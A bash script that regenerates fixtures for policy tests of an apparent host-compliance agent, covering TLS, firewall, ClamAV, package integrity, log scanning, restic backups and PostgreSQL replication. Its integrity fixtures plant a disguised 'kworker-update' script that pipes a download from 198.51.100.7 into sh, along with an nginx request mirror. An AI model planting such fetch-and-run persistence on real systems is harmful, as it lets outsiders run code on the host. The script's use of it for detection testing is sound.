#!/bin/bash
# Re-captures the facts of policies/papyrs.test.yaml with `vigil-agent facts`
# against real things on this machine: openssl s_server, nftables in a network
# namespace, clamd, dpkg md5sums, fixture roots, restic repositories.
#
#   tests/data/policytests/capture.sh [OUT_DIR]     (as root; default policies/facts)
#
# Needs: openssl nftables iproute2 python3 clamav-daemon restic util-linux
# postgresql.
# Certificate, snapshot and stamp dates are fixed, so the cases' pinned `now`
# still holds; DER bytes, snapshot ids and pids change from run to run.
# Facts not made here (written by hand): clamav-official-db-clean.json is made
# from clamav-local-db-clean.json below; postgres-two-replicas.json (distinct
# hosts, which loopback cannot show) and the SP-3/SP-4
# shadow-*/ssh-*/logs-clean/logs-password-leak files are not touched.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
WS=$(cd "$HERE/../../.." && pwd)
OUT=${1:-$WS/policies/facts}
A=${VIGIL_AGENT:-$WS/target/debug/vigil-agent}
W=$(mktemp -d /tmp/policytests-capture.XXXXXX)
NS=policytests-cap-$$
PIDS=()
cleanup() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  ip netns del "$NS" 2>/dev/null || true
  rm -rf "$W"
}
trap cleanup EXIT

# keep CONTROL CHECK FILE [agent args]: run `facts` on $W/capture.yaml (or
# $POLICY), keep one check's object, apply $REWRITE (sed) to the text.
keep() {
  local control=$1 check=$2 file=$3; shift 3
  "${PREFIX[@]}" "$A" facts --policy "${POLICY:-$W/capture.yaml}" --control "$control" "$@" \
    | sed "${REWRITE:-}" \
    | python3 -c "
import json, sys
d = json.load(sys.stdin)['$check']
assert 'collect_error' not in d, d
open('$OUT/$file', 'w').write(json.dumps(d, indent=2) + '\n')"
  echo "captured $file"
}
PREFIX=()

free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }

# --- the capture policy: papyrs.yaml with a test CA and a local clamd ---------
python3 - "$WS/policies/papyrs.yaml" "$W/capture.yaml" "$W/clamd.sock" <<'EOF'
import sys
t = open(sys.argv[1]).read()
t = t.replace("          issuer_contains: Gandi\n", "          issuer_contains: Gandi\n          ca_file: /etc/vigil/policy-test-ca.pem\n")
t = t.replace("          min_ec_bits: 256\n", "          min_ec_bits: 256\n          ca_file: /etc/vigil/policy-test-ca.pem\n", 1)
t = t.replace("address: unix:/var/run/clamav/clamd.ctl", "address: unix:" + sys.argv[3])
open(sys.argv[2], "w").write(t)
EOF
R=$W/root
mkdir -p "$R/etc/ssl/papyrs" "$R/etc/vigil" "$W/state"

# ONLY_BK4=1 re-captures BK-4 alone (it takes a minute and a half).
if [ "${ONLY_BK4:-}" != 1 ]; then

# --- SP-1, SP-2: a test PKI ---------------------------------------------------
mkdir -p "$W/pki/newcerts" && cd "$W/pki" && touch index.txt && echo 1000 > serial
cat > ca.cnf <<'EOF'
[ ca ]
default_ca = CA_default
[ CA_default ]
dir = .
database = ./index.txt
new_certs_dir = ./newcerts
serial = ./serial
default_md = sha256
policy = policy_any
copy_extensions = copy
unique_subject = no
[ policy_any ]
commonName = supplied
organizationName = optional
countryName = optional
[ v3_ca ]
basicConstraints = critical,CA:true
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
[ v3_int ]
basicConstraints = critical,CA:true,pathlen:0
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
[ v3_leaf ]
basicConstraints = critical,CA:false
keyUsage = critical,digitalSignature,keyEncipherment
extendedKeyUsage = serverAuth
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
subjectAltName = DNS:papyrs.example,DNS:www.papyrs.example
EOF
csr() { openssl req -new -newkey rsa:2048 -nodes -keyout "$1.key" -subj "$2" -out "$1.csr" 2>/dev/null; }
sign() { openssl ca -batch -config ca.cnf -cert "$1.pem" -keyfile "$1.key" -in "$2.csr" -out "$2.pem" \
  -extensions "$3" -startdate "$4" -enddate "$5" -notext >/dev/null 2>&1; }
csr root "/O=vigil policy tests/CN=vigil policy-test root CA"
openssl ca -batch -config ca.cnf -selfsign -keyfile root.key -in root.csr -out root.pem -extensions v3_ca \
  -startdate 20250101000000Z -enddate 20350101000000Z -notext >/dev/null 2>&1
csr gandi "/C=FR/O=Gandi (vigil test copy)/CN=Gandi RSA Domain Validation Secure Server CA 3"
sign root gandi v3_int 20250101000000Z 20300101000000Z
csr le "/C=US/O=Let's Encrypt (vigil test copy)/CN=R11"
sign root le v3_int 20250101000000Z 20300101000000Z
for n in good expired other; do csr $n "/CN=papyrs.example"; done
sign gandi good v3_leaf 20261115000000Z 20271215235959Z
sign gandi expired v3_leaf 20250901000000Z 20251101235959Z
sign le other v3_leaf 20261110000000Z 20270208235959Z
cat good.pem gandi.pem > good-chain.pem
cat expired.pem gandi.pem > expired-chain.pem
cat other.pem le.pem > other-chain.pem
cp root.pem "$R/etc/vigil/policy-test-ca.pem"
cd "$W"

for x in good:gandi-chain expired:expired other:other-ca; do
  cp "pki/${x%%:*}-chain.pem" "$R/etc/ssl/papyrs/fullchain.pem"
  keep SP-2 served-certificate "tls-file-${x#*:}.json" --root "$R"
done

endpoint() { # leaf file [s_server args]
  local leaf=$1 file=$2; shift 2
  local port; port=$(free_port)
  openssl s_server -quiet -accept "127.0.0.1:$port" -cert "pki/$leaf.pem" -cert_chain pki/gandi.pem \
    -key "pki/$leaf.key" -www "$@" >/dev/null 2>&1 &
  local pid=$!; PIDS+=("$pid"); sleep 1
  sed "s/address: 127.0.0.1:443/address: 127.0.0.1:$port/" capture.yaml > capture-ep.yaml
  POLICY=$W/capture-ep.yaml REWRITE="s/127.0.0.1:$port/127.0.0.1:443/g" keep SP-1 public-https "$file" --root "$R"
  kill "$pid"
}
endpoint good tls-endpoint-modern.json -no_tls1 -no_tls1_1
endpoint good tls-endpoint-tls10.json -min_protocol TLSv1 -cipher 'DEFAULT:@SECLEVEL=0'
endpoint expired tls-endpoint-expired.json -no_tls1 -no_tls1_1

# --- SP-5: nftables and listeners in a network namespace ----------------------
ip netns add "$NS"
ip netns exec "$NS" ip link set lo up
cat > fw-good.nft <<'EOF'
flush ruleset
table inet filter {
	chain input {
		type filter hook input priority filter; policy drop;
		ct state established,related accept
		ct state invalid drop
		iif "lo" accept
		meta l4proto { icmp, ipv6-icmp } accept
		tcp dport { 22, 80, 443 } accept
		counter comment "dropped by policy"
	}
	chain forward {
		type filter hook forward priority filter; policy drop;
	}
	chain output {
		type filter hook output priority filter; policy accept;
	}
}
EOF
sed 's/tcp dport { 22, 80, 443 } accept/tcp dport { 22, 80, 443, 5432 } accept/' fw-good.nft > fw-pg.nft
sed 's/policy drop;/policy accept;/; /ct state\|iif\|meta l4proto\|tcp dport\|counter/d' fw-good.nft > fw-open.nft
cat > listen.py <<'EOF'
import socket, sys, time
socks = []
for spec in sys.argv[1:]:
    fam, addr, port = spec.split(',')
    s = socket.socket(socket.AF_INET6 if fam.startswith('6') else socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if fam.startswith('6'):
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1 if fam == '6o' else 0)
    s.bind((addr, int(port))); s.listen(); socks.append(s)
print('ready', flush=True)
time.sleep(600)
EOF
# Listeners named like the daemons they stand for (comm is the link's name;
# Debian's python3, not a wrapper that dispatches on its name).
mkdir -p bin && for n in sshd nginx postgres; do ln -sf /usr/bin/python3 "bin/$n"; done
listen() { ip netns exec "$NS" "bin/$1" listen.py "${@:2}" > "$1.out" 2>&1 & PIDS+=($!); LAST=$!; }
listen sshd 4,0.0.0.0,22 6o,::,22
listen nginx 4,0.0.0.0,80 4,0.0.0.0,443 6o,::,80 6o,::,443
listen postgres 4,127.0.0.1,5432 6o,::1,5432
PG=$LAST; sleep 1
PREFIX=(ip netns exec "$NS")
ip netns exec "$NS" nft -f fw-good.nft && keep SP-5 inbound-firewall firewall-default-drop.json
kill "$PG"; sleep 0.5
listen postgres 4,0.0.0.0,5432 6o,::,5432; sleep 1
ip netns exec "$NS" nft -f fw-pg.nft && keep SP-5 inbound-firewall firewall-postgres-exposed.json
ip netns exec "$NS" nft -f fw-open.nft && keep SP-5 inbound-firewall firewall-accept-all.json
PREFIX=()

# --- SP-7 clamd: a real clamd with a local database ---------------------------
mkdir -p "$R/usr/local/bin" "$R/srv/papyrs/uploads/site-1" "$R/var/lib/clamav"
printf '#!/bin/sh\nexec /usr/bin/pg_dump --format=custom papyrs > /var/backups/postgresql/papyrs.dump\n' > "$R/usr/local/bin/papyrs-dump"
printf '#!/bin/sh\nrestic backup /srv/papyrs /var/backups/postgresql\n' > "$R/usr/local/bin/papyrs-backup"
chmod 755 "$R"/usr/local/bin/*
printf '%%PDF-1.4\n%% invoice 2026-0042\n' > "$R/srv/papyrs/uploads/site-1/invoice-2026-0042.pdf"
printf 'Meeting notes: launch checklist\n' > "$R/srv/papyrs/uploads/site-1/notes.txt"
echo "44d88612fea8a8f36de82e1278abb02f:68:Eicar-Test-Signature" > "$R/var/lib/clamav/eicar.hdb"
echo "Papyrs-Local-Test-Pattern:0:*:$(printf 'papyrs-local-test-pattern-31c4' | od -An -tx1 | tr -d ' \n')" > "$R/var/lib/clamav/papyrs.ndb"
touch -d "2026-11-25 04:12:00 UTC" "$R"/var/lib/clamav/*
cat > clamd.conf <<EOF
Foreground yes
LocalSocket $W/clamd.sock
DatabaseDirectory $R/var/lib/clamav
TemporaryDirectory $W
PidFile $W/clamd.pid
LogFile $W/clamd.log
StreamMaxLength 25M
EOF
clamd_start() {
  rm -f "$W/clamd.sock"; clamd -c "$W/clamd.conf" >/dev/null 2>&1 & CLAMD=$!; PIDS+=("$CLAMD")
  for _ in $(seq 120); do [ -S "$W/clamd.sock" ] && return; sleep 0.5; done
  echo "clamd did not start" >&2; exit 1
}
CLAM="s#unix:$W/clamd.sock#unix:/var/run/clamav/clamd.ctl#g"
clamd_start
rm -rf state/*; REWRITE=$CLAM keep SP-7 clamd clamav-local-db-clean.json --root "$R" --state-dir state
# EICAR, put together here so that no file of the repository holds it.
python3 -c "print(''.join(['X5O!P%@AP','[4\\\\PZX54(P^)7CC)7}\$','EICAR-STANDARD','-ANTIVIRUS-TEST','-FILE!\$H+H*']), end='')" \
  > "$R/srv/papyrs/uploads/site-1/quarterly-report.pdf.exe"
rm -rf state/*; REWRITE=$CLAM keep SP-7 clamd clamav-infected-upload.json --root "$R" --state-dir state
rm "$R/srv/papyrs/uploads/site-1/quarterly-report.pdf.exe"
kill "$CLAMD"; wait "$CLAMD" 2>/dev/null || true
mv "$R/var/lib/clamav/eicar.hdb" "$W/eicar.hdb"
clamd_start
rm -rf state/*; REWRITE=$CLAM keep SP-7 clamd clamav-eicar-not-detected.json --root "$R" --state-dir state
kill "$CLAMD"
python3 - "$OUT" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1] + "/clamav-local-db-clean.json"))
d.update({"database_version": 27467, "database_date": "2026-11-25T08:45:02Z", "database_date_source": "version",
          "database_files": ["bytecode.cvd", "daily.cld", "main.cvd"],
          "self_test": {"outcome": "detected", "detail": "Win.Test.EICAR_HDB-1"}})
open(sys.argv[1] + "/clamav-official-db-clean.json", "w").write(json.dumps(d, indent=2) + "\n")
EOF

# --- SP-7 system-software: this machine's openssh-server and ca-certificates --
F=$W/fi
mkdir -p "$F/var/lib/dpkg/info" "$F/etc/nginx/sites-enabled" "$F/usr/local/bin" "$F/var/lib/vigil" "$W/fistate"
python3 - "$F/var/lib/dpkg/status" <<'EOF'
import re, sys
paras = [p for p in open('/var/lib/dpkg/status').read().split('\n\n')
         if re.search(r'^Package: (openssh-server|ca-certificates)$', p, re.M)]
open(sys.argv[1], 'w').write('\n\n'.join(paras).strip() + '\n')
EOF
for p in openssh-server ca-certificates; do
  cp /var/lib/dpkg/info/$p.md5sums /var/lib/dpkg/info/$p.list "$F/var/lib/dpkg/info/"
  [ -f /var/lib/dpkg/info/$p.conffiles ] && cp /var/lib/dpkg/info/$p.conffiles "$F/var/lib/dpkg/info/"
done
(cd / && { cat "$F"/var/lib/dpkg/info/*.md5sums | awk '{print $2}'; grep -h '^ /' "$F/var/lib/dpkg/status" | awk '{print substr($1,2)}'; } \
  | sort -u | while read -r f; do [ -e "$f" ] && cp --parents -a "$f" "$F/"; done)
cp "$R"/usr/local/bin/* "$F/usr/local/bin/"
cat > "$F/etc/nginx/nginx.conf" <<'EOF'
user www-data;
worker_processes auto;
pid /run/nginx.pid;
events { worker_connections 768; }
http {
	ssl_protocols TLSv1.2 TLSv1.3;
	ssl_prefer_server_ciphers off;
	access_log /var/log/nginx/access.log;
	include /etc/nginx/sites-enabled/*;
}
EOF
cat > "$F/etc/nginx/sites-enabled/papyrs.conf" <<'EOF'
server {
	listen 80;
	listen [::]:80;
	server_name papyrs.example;
	return 301 https://$host$request_uri;
}
server {
	listen 443 ssl http2;
	listen [::]:443 ssl http2;
	server_name papyrs.example;
	ssl_certificate /etc/ssl/papyrs/fullchain.pem;
	ssl_certificate_key /etc/ssl/papyrs/privkey.pem;
	location / { proxy_pass http://127.0.0.1:8000; }
}
EOF
"$A" baseline --policy capture.yaml --control SP-7 --root "$F" --state-dir fistate >/dev/null
cp -a "$F" "$W/fi-pristine"
fi_keep() { keep SP-7 system-software "$1" --root "$F" --state-dir fistate; }
fi_reset() { rm -rf "$F"; cp -a "$W/fi-pristine" "$F"; }
fi_keep integrity-clean.json
echo 'SSHD_OPTS="-o LogLevel=VERBOSE"' >> "$F/etc/default/ssh"
fi_keep integrity-conffile-edited.json
printf '\n# vigil policy test: a trojaned sshd\n' >> "$F/usr/sbin/sshd"
fi_keep integrity-sshd-replaced.json
fi_reset
printf '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n' > "$F/usr/local/bin/kworker-update"
chmod 755 "$F/usr/local/bin/kworker-update"
sed -i 's#proxy_pass http://127.0.0.1:8000;#proxy_pass http://127.0.0.1:8000; mirror /collect;#' "$F/etc/nginx/sites-enabled/papyrs.conf"
fi_keep integrity-baseline-drift.json
fi_reset
printf '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n' > "$F/usr/local/bin/kworker-update"
chmod 755 "$F/usr/local/bin/kworker-update"
python3 - "$F" <<'EOF'
import hashlib, json, sys
p = sys.argv[1] + '/var/lib/vigil/baseline-sp7.json'
b = json.load(open(p))
data = open(sys.argv[1] + '/usr/local/bin/kworker-update', 'rb').read()
b['entries']['/usr/local/bin/kworker-update'] = {"kind": "file", "sha256": hashlib.sha256(data).hexdigest(),
                                                 "mode": "0755", "uid": 0, "gid": 0, "size": len(data)}
json.dump(b, open(p, 'w'), indent=2)
EOF
fi_keep integrity-baseline-rewritten.json

# --- SP-6: fixture roots from tests/data/patch_level ---------------------------
PL=$WS/tests/data/patch_level
pl() { # name overlay stamp-date
  local d=$W/pl-$1; mkdir -p "$d"; cp -a "$PL/base/root/." "$d/"
  [ -n "$2" ] && cp -a "$PL/$2/root/." "$d/"
  touch -d "$3" "$d"/var/lib/apt/periodic/* "$d"/var/lib/apt/lists/*
  echo "$d"
}
keep SP-6 packages-current patches-current.json --root "$(pl current '' '2026-11-25 06:25:00 UTC')"
keep SP-6 packages-current patches-security-pending.json --root "$(pl sec pending_security '2026-11-25 06:25:00 UTC')"
keep SP-6 packages-current patches-neglected.json --root "$(pl neglected neglected '2026-11-02 06:25:00 UTC')"

# --- SP-8: a fixture /var/log ---------------------------------------------------
L=$W/logs/var/log
mkdir -p "$L/nginx" "$L/papyrs" "$W/logstate"
cat > "$L/nginx/access.log" <<'EOF'
203.0.113.14 - - [25/Nov/2026:09:12:01 +0000] "GET /site-1/pages/launch-checklist HTTP/2.0" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64)"
203.0.113.14 - - [25/Nov/2026:09:12:03 +0000] "POST /site-1/forms/contact HTTP/2.0" 303 0 "https://papyrs.example/site-1" "Mozilla/5.0 (X11; Linux x86_64)"
198.51.100.23 - - [25/Nov/2026:09:14:40 +0000] "GET /billing/checkout?session=cs_test_a1B2c3 HTTP/2.0" 302 0 "-" "Mozilla/5.0 (Macintosh)"
198.51.100.23 - - [25/Nov/2026:09:15:02 +0000] "POST /webhooks/stripe HTTP/1.1" 200 2 "-" "Stripe/1.0 (+https://stripe.com/docs/webhooks)"
EOF
cat > "$L/papyrs/app.log" <<'EOF'
2026-11-25T09:14:40Z INFO billing: checkout session created for account 4471 (plan business, 12 seats)
2026-11-25T09:15:02Z INFO billing: webhook checkout.session.completed for account 4471, invoice 2026-0042 paid, card ending 1111
2026-11-25T09:15:02Z INFO billing: order 1234567890123 total EUR 96.00
EOF
keep SP-8 no-card-numbers-in-logs logs-no-card-numbers.json --root "$W/logs" --state-dir logstate
# The Visa test number, put together here.
echo "2026-11-25T09:15:03Z DEBUG billing: raw form {\"name\":\"A. Customer\",\"card\":\"$(printf '%s 1111 1111 1111' 4111)\",\"exp\":\"12/29\"}" >> "$L/papyrs/app.log"
rm -rf logstate/*; keep SP-8 no-card-numbers-in-logs logs-card-number.json --root "$W/logs" --state-dir logstate

# --- BK-1..BK-3: restic repositories -----------------------------------------
B=$W/bk
mkdir -p "$B/root/etc/vigil" "$B/root/srv/backup" "$B/data/srv/papyrs/sites/site-1" "$B/data/var/backups/postgresql" "$B/cache"
head -c 24 /dev/urandom | base64 > "$B/root/etc/vigil/restic.pass"
echo '<h1>Launch checklist</h1>' > "$B/data/srv/papyrs/sites/site-1/page-1.html"
head -c 20000 /dev/urandom > "$B/data/var/backups/postgresql/papyrs.dump"
export RESTIC_CACHE_DIR=$B/cache
# snap REPO "PATHS" DAY...: nightly 02:00 UTC snapshots of the test data as
# /srv/papyrs and /var/backups/postgresql (bind-mounted in a private mount namespace).
snap() {
  local repo=$B/root/srv/backup/$1 paths=$2; shift 2
  [ -d "$repo" ] || RESTIC_PASSWORD_FILE=$B/root/etc/vigil/restic.pass restic -r "$repo" --quiet init >/dev/null
  unshare -m --propagation private sh -ec '
    b=$1; repo=$2; paths=$3; shift 3
    mount --bind "$b/data/srv" /srv; mount --bind "$b/data/var/backups" /var/backups
    for d in "$@"; do
      TZ=UTC RESTIC_PASSWORD_FILE=$b/root/etc/vigil/restic.pass restic -r "$repo" --quiet backup --host papyrs-web-1 --time "$d 02:00:00" $paths >/dev/null
    done' sh "$B" "$repo" "$paths" "$@"
}
days() { for i in $(seq "$1" "$2"); do date -u -d "2026-11-25 - $i days" +%F; done | sort; }
P="/srv/papyrs /var/backups/postgresql"
snap restic-local "$P" $(days 0 7)
snap restic-offsite "$P" $(days 0 7)
snap restic-offsite-stopped "$P" $(days 4 11)
snap restic-offsite-new "$P" $(days 0 2)
snap restic-local-no-db "$P" $(days 1 7)
snap restic-local-no-db "/srv/papyrs" 2026-11-25
cp -a "$B/root/srv/backup/restic-offsite" "$B/root/srv/backup/restic-offsite-lost-pack"
rm -f "$(ls -S "$B"/root/srv/backup/restic-offsite-lost-pack/data/*/* | head -1)"
# bk LOCAL OFFSITE CONTROL CHECK FILE [OFFSITE_AS]: both repositories local,
# the second one standing for the policy's sftp repository.
bk() {
  local as=${6:-sftp:backup@backup-1.papyrs.internal:/restic}
  python3 - "$1" "$2" "$W/capture.yaml" "$W/capture-bk.yaml" <<'EOF'
import sys
t = open(sys.argv[3]).read()
t = t.replace('location: /srv/backup/restic-local,', 'location: /srv/backup/%s,' % sys.argv[1])
t = t.replace('location: "sftp:backup@backup-1.papyrs.internal:/restic",',
              'location: /srv/backup/%s, site: backup-1.papyrs.internal,' % sys.argv[2])
open(sys.argv[4], 'w').write(t)
EOF
  POLICY=$W/capture-bk.yaml REWRITE="s#\"/srv/backup/$2\"#\"$as\"#; s#\"/srv/backup/$1\"#\"/srv/backup/restic-local\"#" \
    keep "$3" "$4" "$5" --root "$B/root"
}
bk restic-local restic-offsite BK-1 nightly-restic backup-nightly-both-sites.json
bk restic-local restic-offsite-stopped BK-1 nightly-restic backup-nightly-offsite-stopped.json
bk restic-local-no-db restic-offsite BK-1 nightly-restic backup-nightly-no-database-dump.json
bk restic-local restic-offsite BK-1 restic-data-sample backup-data-sample-ok.json
bk restic-local restic-offsite-lost-pack BK-1 restic-data-sample backup-data-sample-damaged.json
bk restic-local restic-offsite BK-2 sets-and-locations backup-sets-week-both-sites.json
bk restic-local restic-offsite-new BK-2 sets-and-locations backup-sets-offsite-three-nights.json
bk restic-local restic-offsite-stopped BK-2 sets-and-locations backup-sets-offsite-stopped.json
bk restic-local restic-offsite BK-3 encrypted-transport backup-transport-sftp.json
bk restic-local restic-offsite BK-3 encrypted-transport backup-transport-rest-http.json "rest:http://backup-1.papyrs.internal:8000/papyrs"

fi # ONLY_BK4

# --- BK-4: a PostgreSQL primary with two streaming standbys on loopback ---------
# Told apart by application_name (db-2, db-3), as on loopback they share an address.
PGBIN=$(ls -d /usr/lib/postgresql/*/bin | sort -V | tail -1)
PGD=$W/pg
chmod 711 "$W"; mkdir -p "$PGD" && chown postgres:postgres "$PGD"
pg() { runuser -u postgres -- "$PGBIN/$1" "${@:2}"; }
pgconf() { # data port extra
  printf "\nport = %s\nlisten_addresses = '127.0.0.1'\nunix_socket_directories = '%s'\nwal_level = replica\nmax_wal_senders = 6\nmax_replication_slots = 6\nhot_standby = on\nwal_receiver_status_interval = 1s\nfsync = off\nshared_buffers = 16MB\n%s" \
    "$2" "$PGD" "$3" >> "$1/postgresql.auto.conf"
}
pgstart() { pg pg_ctl start -w -t 60 -D "$1" -l "$1.log" >/dev/null; PGDATA_STARTED+=("$1"); }
PGDATA_STARTED=()
pgstop_all() { for d in "${PGDATA_STARTED[@]}"; do pg pg_ctl stop -m immediate -w -D "$d" >/dev/null 2>&1 || true; done; }
trap 'pgstop_all; cleanup' EXIT
PPORT=$(free_port)
pg initdb -D "$PGD/primary" -A trust -U postgres --no-sync >/dev/null
pgconf "$PGD/primary" "$PPORT" ""
pgstart "$PGD/primary"
sql() { psql -h 127.0.0.1 -p "$1" -U postgres -d postgres -qAtc "$2"; }
sql "$PPORT" "CREATE ROLE monitor LOGIN IN ROLE pg_monitor"
for n in 2 3; do
  port=$(free_port)
  pg pg_basebackup -h 127.0.0.1 -p "$PPORT" -U postgres -D "$PGD/db-$n" -R -X stream -C -S "db_$n" --no-sync
  pgconf "$PGD/db-$n" "$port" "primary_conninfo = 'host=127.0.0.1 port=$PPORT user=postgres application_name=db-$n'
"
  pgstart "$PGD/db-$n"
  eval "S$n=$port"
done
sql "$PPORT" "CREATE TABLE pages (id serial PRIMARY KEY, body text); INSERT INTO pages (body) SELECT 'page ' || g FROM generate_series(1, 100) g"
caught_up() { # wanted count
  for _ in $(seq 120); do
    [ "$(sql "$PPORT" "SELECT count(*) FROM pg_stat_replication WHERE state = 'streaming' AND replay_lsn = pg_current_wal_lsn()")" = "$1" ] && return
    sleep 0.5
  done
  echo "standbys did not catch up" >&2; exit 1
}
caught_up 2
mkdir -p "$W/pgroot/etc/vigil"
echo "postgres://monitor@127.0.0.1:$PPORT/postgres" > "$W/pgroot/etc/vigil/pg-monitor.dsn"
PGR="s#127.0.0.1:$PPORT/#127.0.0.1:5432/#g"
REWRITE=$PGR keep BK-4 postgres-replicas postgres-loopback-two-replicas.json --root "$W/pgroot"
# db-3 stops replaying while the primary keeps writing for 70 s.
sql "$S3" "SELECT pg_wal_replay_pause()" >/dev/null
for _ in $(seq 140); do sql "$PPORT" "INSERT INTO pages (body) VALUES ('edit')"; sleep 0.5; done
REWRITE=$PGR keep BK-4 postgres-replicas postgres-loopback-replay-stuck.json --root "$W/pgroot"
sql "$S3" "SELECT pg_wal_replay_resume()" >/dev/null
caught_up 2
# db-2 goes down.
pg pg_ctl stop -m fast -w -D "$PGD/db-2" >/dev/null
for _ in $(seq 60); do [ "$(sql "$PPORT" "SELECT count(*) FROM pg_stat_replication")" = 1 ] && break; sleep 0.5; done
REWRITE=$PGR keep BK-4 postgres-replicas postgres-loopback-one-replica.json --root "$W/pgroot"

echo "done: $OUT"
